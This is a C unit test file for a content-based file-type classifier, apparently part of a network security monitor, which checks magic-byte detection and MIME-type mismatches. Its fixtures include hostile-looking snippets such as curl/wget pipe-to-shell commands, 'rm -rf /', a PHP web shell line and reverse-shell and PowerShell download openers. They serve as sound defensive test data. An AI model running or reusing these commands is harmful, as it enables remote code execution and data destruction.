// SPDX-License-Identifier: GPL-2.0-or-later
// Kinds of file by content: what can run must be told early, what a browser is served must not be called a script.
#include "edge.h"
#include "talk.h"

struct sample {
	const char *name;
	enum file_kind kind;
	struct bytes head;
	size_t certain_at; // this many bytes are enough with more to come; 0 = only the end decides
};

#define S(name, kind, certain, text) {name, kind, {(const uint8_t *)(text), sizeof(text) - 1}, certain}

static const struct sample samples[] = {
	S("ELF", FILE_ELF, 4,
	  "\x7f"
	  "ELF\2\1\1\0\0\0\0\0\0\0\0\0\2\0\x3e\0"),
	S("PE", FILE_PE, 4, "MZ\x90\0\3\0\0\0\4\0\0\0\xff\xff\0\0"),
	S("Java class 8", FILE_JAVA_CLASS, 8, "\xca\xfe\xba\xbe\0\0\0\x34\0\x1d\x0a\0\6\0\x0f"),
	S("Java class 21 preview", FILE_JAVA_CLASS, 8, "\xca\xfe\xba\xbe\xff\xff\0\x41\0\x1d"),
	S("Java class 1.1", FILE_JAVA_CLASS, 8, "\xca\xfe\xba\xbe\0\3\0\x2d\0\x1d"),
	S("Mach-O fat", FILE_MACHO, 8, "\xca\xfe\xba\xbe\0\0\0\2\1\0\0\7\0\0\0\3"),
	S("Mach-O 64", FILE_MACHO, 4, "\xcf\xfa\xed\xfe\7\0\0\1\3\0\0\0\2\0\0\0"),
	S("Java serialized", FILE_JAVA_SERIALIZED, 4, "\xac\xed\0\5sr\0\x11java.util.HashMap"),
	S("jar by manifest", FILE_JAVA_ARCHIVE, 39,
	  "PK\3\4\x14\0\0\0\0\0abcdefgh\0\0\0\0\0\0\0\0\x09\0\0\0META-INF/rest"),
	S("jar by class", FILE_JAVA_ARCHIVE, 43,
	  "PK\3\4\x14\0\0\0\0\0abcdefgh\0\0\0\0\0\0\0\0\x0d\0\0\0Exploit.class."),
	S("jar by second entry", FILE_JAVA_ARCHIVE, 0,
	  "PK\3\4\x14\0\0\0\0\0abcdefgh\2\0\0\0\2\0\0\0\1\0\0\0xhiPK\3\4\x14\0\0\0\0\0abcdefgh\0\0\0\0\0\0\0\0\7\0\0\0a"
	  ".class"),
	S("zip", FILE_ARCHIVE, 0, "PK\3\4\x14\0\0\0\0\0abcdefgh\0\0\0\0\0\0\0\0\5\0\0\0a.txt"),
	S("zip of unknown sizes", FILE_ARCHIVE, 35, "PK\3\4\x14\0\x08\0\0\0abcdefgh\0\0\0\0\0\0\0\0\5\0\0\0a.txtxxxx"),
	S("docx", FILE_OFFICE, 49, "PK\3\4\x14\0\6\0\x08\0abcdefgh\0\0\0\0\0\0\0\0\x13\0\0\0[Content_Types].xml..."),
	S("gzip", FILE_ARCHIVE, 3, "\x1f\x8b\x08\0\0\0\0\0\0\3"),
	S("xz", FILE_ARCHIVE, 6,
	  "\xfd"
	  "7zXZ\0\0\4"),
	S("bzip2", FILE_ARCHIVE, 10, "BZh91AY&SY\1\2"),
	S("text like bzip2", FILE_TEXT, 0, "BZh is a prefix"),
	S("7z", FILE_ARCHIVE, 6, "7z\xbc\xaf\x27\x1c\0\4"),
	S("zstd", FILE_ARCHIVE, 4, "\x28\xb5\x2f\xfd\4\0"),
	S("rar", FILE_ARCHIVE, 6, "Rar!\x1a\x07\1\0"),
	S("deb", FILE_PACKAGE, 21, "!<arch>\ndebian-binary   1234"),
	S("rpm", FILE_PACKAGE, 4, "\xed\xab\xee\xdb\3\0"),
	S("PDF", FILE_PDF, 5, "%PDF-1.7\n"),
	S("OLE", FILE_OFFICE, 8, "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1\0\0"),
	S("RTF", FILE_OFFICE, 5, "{\\rtf1\\ansi"),
	S("PNG", FILE_IMAGE, 8, "\x89PNG\r\n\x1a\n\0\0\0\x0d"),
	S("JPEG", FILE_IMAGE, 3, "\xff\xd8\xff\xe0"),
	S("GIF", FILE_IMAGE, 6, "GIF89a\1\0"),
	S("WebP", FILE_IMAGE, 12, "RIFF\1\2\3\4WEBPVP8 "),
	S("AVIF", FILE_IMAGE, 12,
	  "\0\0\0\x20"
	  "ftypavif"),
	S("MP4", FILE_MEDIA, 12,
	  "\0\0\0\x20"
	  "ftypisom"),
	S("WAV", FILE_MEDIA, 12, "RIFF\1\2\3\4WAVE"),
	S("WOFF2", FILE_FONT, 4, "wOF2\0\1\0\0"),
	S("HTML", FILE_HTML, 14, "<!DOCTYPE html><html><head>"),
	S("HTML after white space", FILE_HTML, 7, "\r\n<HTML lang=en>"),
	S("HTML with shell in it", FILE_HTML, 5, "<html><pre>\ncurl http://x/ | sh\nrm -rf /\n</pre>"),
	S("XHTML", FILE_HTML, 0, "<?xml version=\"1.0\"?>\n<html xmlns=\"x\">"),
	S("XML", FILE_XML, 0, "<?xml version=\"1.0\"?>\n<feed></feed>"),
	S("XML without declaration", FILE_XML, 0, "<note>x</note>"),
	S("SVG", FILE_XML, 0, "<svg xmlns=\"http://www.w3.org/2000/svg\"></svg>"),
	S("JSON", FILE_JSON, 2, "{\"cmd\":\"curl http://x | sh\"}"),
	S("JSON array", FILE_JSON, 3, "[\n{\"a\":1}]"),
	S("JSON numbers", FILE_JSON, 2, "[1,2]"),
	S("PHP", FILE_SCRIPT, 5, "<?php system($_GET['c']); ?>"),
	S("PHP after a comment", FILE_SCRIPT, 0, "<!-- x -->\n<?php eval($x);"),
	S("JSP", FILE_SCRIPT, 2, "<%@ page import=\"java.io.*\"%>"),
	S("shebang", FILE_SCRIPT, 3, "#!/bin/sh\nid\n"),
	S("shebang with BOM", FILE_SCRIPT, 6, "\xef\xbb\xbf#!/bin/sh\nid\n"),
	S("shell export", FILE_SCRIPT, 22, "export PATH=$PATH:/sbi\nwhoami\n"),
	S("shell curl", FILE_SCRIPT, 0, "curl http://192.0.2.7/x | bash"),
	S("shell wget first line", FILE_SCRIPT, 33, "wget -q http://192.0.2.7/x -O- \\\n|sh\n"),
	S("shell if", FILE_SCRIPT, 0, "a=1\nif [ -f /tmp/x ]; then\nrm -rf /tmp/x\nfi\n"),
	S("shell function", FILE_SCRIPT, 0, "download() {\n  echo x\n}\nfi\n"),
	S("shell chmod", FILE_SCRIPT, 0, "cd /tmp; chmod +x m; ./m &"),
	S("shell bracket", FILE_SCRIPT, 0, "[ -x /usr/bin/wget ] && wget http://x/"),
	S("PowerShell", FILE_SCRIPT, 0, "$c = New-Object System.Net.WebClient\n$c.DownloadString('http://x')\n"),
	S("PowerShell type", FILE_SCRIPT, 0, "[System.Reflection.Assembly]::Load($b)"),
	S("PowerShell UTF-16", FILE_SCRIPT, 0,
	  "\xff\xfe"
	  "i\0e\0x\0 \0$\0x\0\n\0"),
	S("Python", FILE_SCRIPT, 0, "import socket,subprocess,os\ns=socket.socket()\n"),
	S("Python from", FILE_SCRIPT, 0, "from os import system\nsystem('id')\n"),
	S("Perl", FILE_SCRIPT, 0, "use strict;\nmy $x = 1;\n"),
	S("VBScript", FILE_SCRIPT, 0, "Dim s\nSet s = CreateObject(\"WScript.Shell\")\n"),
	S("batch", FILE_SCRIPT, 10, "@echo off\r\nstart /b x.exe\r\n"),
	S("JavaScript IIFE", FILE_JAVASCRIPT, 0, "(function(){var a=1;})();"),
	S("JavaScript minified", FILE_JAVASCRIPT, 0,
	  "!function(e,t){\"object\"==typeof exports?t():e.x=t()}(this,function(){})"),
	S("JavaScript jQuery", FILE_JAVASCRIPT, 0, "/*! jQuery v3.6.0 */\n$(document).ready(function(){\n});"),
	S("JavaScript module", FILE_JAVASCRIPT, 0, "import { a } from './a.js';\nexport default a;\n"),
	S("JavaScript function", FILE_JAVASCRIPT, 0, "function start() {\n  window.x = 1;\n}\nvar y = 2;\n"),
	S("JavaScript with echo", FILE_JAVASCRIPT, 0,
	  "var a = 'x';\nconst b = () => { return 1; };\ndocument.write(a);\n"),
	S("CSS", FILE_CSS, 0, "body {\n  margin: 0;\n}\n.nav { color: red; }\n"),
	S("CSS minified", FILE_CSS, 0, "@charset \"UTF-8\";.a{margin:0}.b{color:red}"),
	S("prose", FILE_TEXT, 0, "curl is a tool to transfer data.\nexport control applies; see below.\nwget too.\n"),
	S("configuration", FILE_TEXT, 0, "name=value\nother=2\n[section]\nkey=x\n"),
	S("Markdown", FILE_TEXT, 0, "Install:\n```\ncurl http://x/install | sh\n```\n"),
	S("ini", FILE_TEXT, 0, "[main]\nkey=x\n"),
	S("Latin text", FILE_TEXT, 0,
	  "Stra\xdf"
	  "e und Gr\xfc\xdf"
	  "e aus dem Land\n"),
	S("Japanese", FILE_TEXT, 0, "\xe9\x96\xa2\xe5\xae\x88"),
	S("binary", FILE_BINARY, 0, "\1\2\3\4\0\0\0\0\5\6"),
};

enum { SAMPLES = sizeof(samples) / sizeof(samples[0]) };

START_TEST(each_kind_is_told_by_its_bytes)
{
	const struct sample *s = &samples[_i];
	enum file_kind got = file_kind_of(edge_copy(s->head), false);

	ck_assert_msg(got == s->kind, "%s is %s, not %s", s->name, file_kind_name(got), file_kind_name(s->kind));
}
END_TEST

START_TEST(what_is_certain_is_said_before_the_end_and_not_taken_back)
{
	const struct sample *s = &samples[_i];

	for (size_t n = 0; n <= s->head.left; n++) {
		enum file_kind got = file_kind_of(edge_copy(bytes_head(s->head, n)), true);

		ck_assert_msg(got == FILE_NONE || got == s->kind, "%s: %s after %zu bytes", s->name,
			      file_kind_name(got), n);
		if (s->certain_at && n >= s->certain_at + (s->kind == FILE_SCRIPT))
			ck_assert_msg(got == s->kind, "%s: %s after %zu bytes", s->name, file_kind_name(got), n);
	}
}
END_TEST

START_TEST(nothing_is_empty_or_unknown)
{
	ck_assert_int_eq(file_kind_of(bytes_of(NULL, 0), false), FILE_EMPTY);
	ck_assert_int_eq(file_kind_of(bytes_of(NULL, 0), true), FILE_NONE);
}
END_TEST

START_TEST(a_tar_is_told_by_its_257th_byte)
{
	uint8_t head[512] = "etc/passwd";

	memcpy(head + 257, "ustar", 5);
	ck_assert_int_eq(file_kind_of(bytes_of(head, 512), true), FILE_ARCHIVE);
}
END_TEST

START_TEST(random_bytes_are_called_encrypted_and_a_table_is_not)
{
	uint8_t head[512];
	uint64_t x = 88172645463325252ull;

	for (unsigned i = 0; i < 512; i++) {
		x ^= x << 13;
		x ^= x >> 7;
		x ^= x << 17;
		head[i] = (uint8_t)(x >> 24);
	}
	head[0] = 0x91;
	ck_assert_int_eq(file_kind_of(bytes_of(head, 512), true), FILE_ENCRYPTED);
	ck_assert_int_eq(file_kind_of(bytes_of(head, 300), true), FILE_NONE);
	for (unsigned i = 0; i < 512; i++)
		head[i] = (uint8_t)(i % 16);
	ck_assert_int_eq(file_kind_of(bytes_of(head, 512), true), FILE_BINARY);
}
END_TEST

START_TEST(a_full_text_is_decided_although_more_would_come)
{
	uint8_t head[512];

	memset(head, 'a', sizeof(head));
	ck_assert_int_eq(file_kind_of(bytes_of(head, 511), true), FILE_NONE);
	ck_assert_int_eq(file_kind_of(bytes_of(head, 512), true), FILE_TEXT);
}
END_TEST

START_TEST(kinds_that_run_have_a_fact)
{
	ck_assert_uint_eq(file_kind_fact(FILE_JAVA_CLASS), FACT_BIT(FACT_JAVA_CLASS));
	ck_assert_uint_eq(file_kind_fact(FILE_JAVA_ARCHIVE), FACT_BIT(FACT_JAVA_CLASS));
	ck_assert_uint_eq(file_kind_fact(FILE_JAVA_SERIALIZED), FACT_BIT(FACT_JAVA_CLASS));
	ck_assert_uint_eq(file_kind_fact(FILE_ELF), FACT_BIT(FACT_EXECUTABLE));
	ck_assert_uint_eq(file_kind_fact(FILE_PE), FACT_BIT(FACT_EXECUTABLE));
	ck_assert_uint_eq(file_kind_fact(FILE_MACHO), FACT_BIT(FACT_EXECUTABLE));
	ck_assert_uint_eq(file_kind_fact(FILE_SCRIPT), FACT_BIT(FACT_SCRIPT));
	ck_assert_uint_eq(file_kind_fact(FILE_HTML), 0);
	ck_assert_uint_eq(file_kind_fact((enum file_kind)9999), 0);
}
END_TEST

static const struct {
	enum file_kind kind;
	const char *type;
	bool lie;
} declared[] = {
	{FILE_ELF, "image/png", true},
	{FILE_ELF, "IMAGE/PNG; x=y", true},
	{FILE_ELF, "text/plain", true},
	{FILE_ELF, "application/octet-stream", false},
	{FILE_ELF, "application/x-executable", false},
	{FILE_ELF, "", false},
	{FILE_JAVA_CLASS, "application/java-vm", false},
	{FILE_JAVA_CLASS, "text/html", true},
	{FILE_PE, "application/pdf", true},
	{FILE_SCRIPT, "text/plain", false},
	{FILE_SCRIPT, "text/x-sh", false},
	{FILE_SCRIPT, "image/gif", true},
	{FILE_SCRIPT, "text/css", true},
	{FILE_SCRIPT, "text/html", false},
	{FILE_ARCHIVE, "image/jpeg", true},
	{FILE_ARCHIVE, "application/zip", false},
	{FILE_IMAGE, "text/html", false},
	{FILE_HTML, "image/png", false},
};

START_TEST(a_declared_type_that_hides_code_is_a_mismatch)
{
	bool lie = file_kind_mismatch(declared[_i].kind, edge_copy(bytes_of_text(declared[_i].type)));

	ck_assert_msg(lie == declared[_i].lie, "%s as '%s'", file_kind_name(declared[_i].kind), declared[_i].type);
}
END_TEST

static const struct {
	const char *text;
	bool v6, found;
} selves[] = {
	{"10.0.0.1", false, true},
	{"GET /?ip=10.0.0.1 HTTP/1.1", false, true},
	{"http://10.0.0.1:80/", false, true},
	{"10.0.0.1.", false, true},
	{"110.0.0.1", false, false},
	{"10.0.0.12", false, false},
	{"9.10.0.0.1", false, false},
	{"10.0.0.1.5", false, false},
	{"10.0.0.15, 10.0.0.1", false, true},
	{"", false, false},
	{"10.0.0.", false, false},
	{"[2001:db8::1]:80", true, true},
	{"x=2001:DB8::1;", true, true},
	{"2001:db8::12", true, false},
};

START_TEST(the_own_address_is_found_where_it_stands_alone)
{
	struct proto_flow flow = {.direction = DIRECTION_OUT};
	struct proto_input in = {.from_client = true, .device_sends = true, .flow = &flow};

	address_parse(bytes_of_text(selves[_i].v6 ? "2001:db8::1" : "10.0.0.1"), &flow.client);
	address_parse(bytes_of_text("192.0.2.9"), &flow.server);
	ck_assert_msg(self_address_in(edge_copy(bytes_of_text(selves[_i].text)), &in) == selves[_i].found, "%s",
		      selves[_i].text);
}
END_TEST

int main(void)
{
	Suite *suite = suite_create("file");
	TCase *c = tcase_create("file");

	tcase_add_loop_test(c, each_kind_is_told_by_its_bytes, 0, SAMPLES);
	tcase_add_loop_test(c, what_is_certain_is_said_before_the_end_and_not_taken_back, 0, SAMPLES);
	tcase_add_test(c, nothing_is_empty_or_unknown);
	tcase_add_test(c, a_tar_is_told_by_its_257th_byte);
	tcase_add_test(c, random_bytes_are_called_encrypted_and_a_table_is_not);
	tcase_add_test(c, a_full_text_is_decided_although_more_would_come);
	tcase_add_test(c, kinds_that_run_have_a_fact);
	tcase_add_loop_test(c, a_declared_type_that_hides_code_is_a_mismatch, 0,
			    sizeof(declared) / sizeof(declared[0]));
	tcase_add_loop_test(c, the_own_address_is_found_where_it_stands_alone, 0, sizeof(selves) / sizeof(selves[0]));
	suite_add_tcase(suite, c);
	return talk_run(suite);
}
